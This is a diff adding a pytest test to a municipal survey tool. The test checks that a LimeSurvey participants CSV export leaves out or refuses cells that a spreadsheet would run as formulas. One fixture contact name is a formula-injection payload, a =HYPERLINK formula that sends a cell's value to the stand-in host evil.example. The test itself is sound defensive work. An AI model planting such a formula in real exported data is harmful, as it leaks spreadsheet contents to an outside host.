@@ -181,3 +181,56 @@ def test_fetch_parses_a_big_message_once_for_both_readers_and_holds_a_bounded_pe
     assert len(whole) == 2  # ours, shared by both readers, and flufl.bounce's copy
     assert peak < 5 * len(data), f"{peak / len(data):.1f} times the message"
 
+
+# --- 7. the LimeSurvey participants file: no cell that a spreadsheet runs --------------------
+
+
+def test_limesurvey_participants_leave_out_formula_names_and_refuse_formula_addresses(
+        engine, workspace, tmp_path):
+    """LimeSurvey imports a participant cell as it is (a ' before it would become part of the
+    name), so no ' is put in: a name that a spreadsheet would run is left out (the
+    municipality's name stands in) and an address starting so is no participant; each is
+    said with the contact list's file and row."""
+    import csv
+
+    from sqlmodel import Session
+
+    from yhteistuumin_survey.config import load_settings
+    from yhteistuumin_survey.db.models import Contact
+    from yhteistuumin_survey.survey import workspace_survey
+    from yhteistuumin_survey.webform import build_webform
+
+    with Session(engine) as session:
+        session.add(Contact(municipality_code="049", email="kulttuuri@espoo.example.fi",
+                            name='=HYPERLINK("http://evil.example/?x="&A1;"Avaa")',
+                            source_file="recipients/contacts.csv", source_row=4))
+        session.add(Contact(municipality_code="091", email="-kulttuuri@hel.example.fi",
+                            name="Maija Meikäläinen", source_file="recipients/contacts.csv",
+                            source_row=7))
+        session.add(Contact(municipality_code="599", email="kultur@pedersore.example.fi",
+                            name="Anna +358"))
+        session.add(Contact(municipality_code="853", email="kulttuuri@turku.example.fi",
+                            name="Liisa Virtanen"))
+        session.commit()
+    with Session(engine, expire_on_commit=False) as session:
+        result = build_webform(workspace, session=session,
+                               settings=load_settings(workspace.root, env={}),
+                               survey=workspace_survey(workspace), tool="limesurvey",
+                               out=tmp_path / "out")
+    with result.files[1].open(encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert [(r["attribute_1"], r["firstname"], r["lastname"]) for r in rows] == [
+        ("049", "Espoo", ""), ("599", "Pedersöre", ""), ("853", "Liisa", "Virtanen")]
+    assert result.failed
+    assert result.refused == [
+        "recipients/contacts.csv:7: Helsinki (091): the address '-kulttuuri@hel.example.fi' "
+        "starts with '-', which a spreadsheet opening the participants file runs as a formula; "
+        "no participant row written. Correct the address in the contact list, import it with "
+        "'yhteistuumin register contacts', and build the web form again"]
+    assert result.renamed[0].startswith("recipients/contacts.csv:4: Espoo (049): the contact's "
+                                        "name '=HYPERLINK(")
+    assert result.renamed[1].startswith("Pedersören kunta (599): the contact's name 'Anna +358'")
+    assert [*result.renamed, *result.refused] == [
+        line for line in result.summary() if "formula" in line]
